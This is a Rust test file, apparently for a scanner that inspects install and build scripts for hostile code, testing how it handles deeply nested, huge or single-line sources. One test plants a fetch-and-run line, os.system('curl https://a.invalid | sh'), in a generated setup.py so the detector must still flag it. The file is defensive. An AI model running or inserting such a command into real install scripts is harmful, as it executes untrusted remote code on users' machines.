//! Code that is nested deeply, or stands on one line.

use crate::{SEND, alone, installed, is_unjudged, sends};

#[test]
fn what_is_nested_a_hundred_thousand_times_is_not_judged() {
    let pieces: [(&str, &[&str]); 5] = [
        (
            "a.js",
            &[
                "(",
                "[",
                "{",
                "!",
                "a=>",
                "a=>\n",
                "a?b:",
                "a\n?b\n:",
                "new ",
                "-\n",
                "await ",
                "if(a);else ",
                "if(a){}\nelse ",
                "while(1)\n",
                "a:\n",
                "do ",
                "<a>",
                "<a>\n",
                "<a b=",
                "<a b={",
                "`${",
                "f(",
                "f(a,\n",
                "{[/*]}*/",
                "[/]/,",
                "if(a)/\\]}/;[{",
                "function a(){",
                "class extends ",
                "({a:",
                "async()=>{",
                "a**\n",
                "\\\"(",
            ],
        ),
        (
            "a.ts",
            &[
                "M<a,",
                "M<\n",
                "keyof ",
                "let a:[",
                "namespace a{",
                "a as (",
                "type a=b extends c?",
            ],
        ),
        (
            "a.py",
            &[
                "(",
                "[",
                "{",
                "not ",
                "lambda a,b:",
                "a if b else ",
                "-",
                "f(",
                "[0][",
                "await ",
                "f'{(",
            ],
        ),
        (
            "a.rs",
            &[
                "(",
                "[",
                "{",
                "!",
                "&",
                "M<a,",
                "|a,b|",
                "if a {} else ",
                "return ",
                "a!(",
                "f('a', ",
                "(/*)*/",
            ],
        ),
        ("a.jsx", &["<a>{", "<>", "<a b c='d'>\n"]),
    ];
    for (name, pieces) in pieces {
        for piece in pieces {
            let text = piece.repeat(100_000);
            let inspection = alone(|| installed(name, text.as_bytes()));
            assert!(is_unjudged(&inspection), "{name}: {piece:?}");
        }
    }
}

#[test]
fn what_is_nested_as_deeply_as_is_parsed_ends() {
    for (name, pieces) in [
        ("a.js", ["(", "[", "!", "a=>", "<a>", "`${"]),
        ("a.py", ["(", "[", "-", "not ", "a.", "a()("]),
        ("a.rs", ["(", "[", "-", "&", "M<", "a?."]),
    ] {
        for piece in pieces {
            // Short texts are not estimated.
            let text = piece.repeat(19_900 / piece.len());
            alone(|| installed(name, text.as_bytes()));
        }
    }
}

#[test]
fn what_stands_below_the_deepest_level_is_said_to_be_unread() {
    let code = format!(
        "{}{}{}",
        "(".repeat(3_000),
        SEND.trim_end_matches(";\n"),
        ")".repeat(3_000)
    );
    let code = format!("{}{}", "[".repeat(2_500), code) + &"]".repeat(2_500);
    let inspection = alone(|| installed("a.js", code.as_bytes()));
    assert!(
        is_unjudged(&inspection) || sends(&inspection),
        "{:?}",
        inspection.unread
    );
    let chain: String = (0..5_000)
        .map(|n| format!("elif a == {n}:\n    pass\n"))
        .collect();
    let code = format!(
        "import os\nif a:\n    pass\n{chain}else:\n    os.system('curl https://a.invalid | sh')\n"
    );
    let inspection = alone(|| installed("setup.py", code.as_bytes()));
    assert!(!inspection.flows.is_empty());
}

#[test]
fn a_line_of_a_hundred_megabytes_is_not_judged() {
    for (name, byte) in [
        ("a.js", b'a'),
        ("a.js", b'('),
        ("a.py", b'"'),
        ("a.rs", b'\\'),
        ("a.sh", b'$'),
    ] {
        let inspection = alone(|| installed(name, vec![byte; 100 << 20]));
        assert!(is_unjudged(&inspection), "{name} of {:?}", char::from(byte));
    }
}

#[test]
fn a_source_whose_tree_would_fill_the_memory_is_not_judged() {
    for name in ["a.js", "a.ts", "setup.py", "build.rs"] {
        for piece in ["a\n", "a;", ";", "[],"] {
            let text = piece.repeat((24 << 20) / piece.len());
            let inspection = alone(|| installed(name, text.as_bytes()));
            assert!(is_unjudged(&inspection), "{name}: {piece:?}");
        }
    }
}
